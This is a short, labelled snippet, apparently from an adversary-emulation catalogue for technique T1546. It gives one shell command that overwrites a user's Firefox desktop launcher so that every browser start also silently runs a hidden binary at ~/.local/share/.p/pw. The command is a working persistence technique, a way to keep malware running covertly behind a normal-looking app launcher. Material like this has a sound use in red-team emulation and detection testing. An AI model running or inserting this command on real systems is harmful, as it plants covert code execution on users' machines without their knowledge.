# technique: T1546
# location: linux.desktop.user-application
# source: /home/lea/.local/share/applications/firefox-esr.desktop
su lea -c "mkdir -p ~/.local/share/applications && printf '[Desktop Entry]\nType=Application\nName=Firefox\nExec=sh -c \"/home/lea/.local/share/.p/pw & exec firefox-esr %%u\"\n' > ~/.local/share/applications/firefox-esr.desktop"
